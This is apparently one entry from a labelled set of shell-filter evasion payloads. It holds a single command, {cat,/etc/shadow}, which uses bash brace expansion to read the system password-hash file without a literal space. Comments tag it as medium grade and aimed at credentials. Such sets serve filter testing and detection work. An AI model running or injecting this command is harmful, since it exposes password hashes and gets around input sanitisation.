# evasion: brace expansion forms the command
# grade: medium; does: credentials
{cat,/etc/shadow}
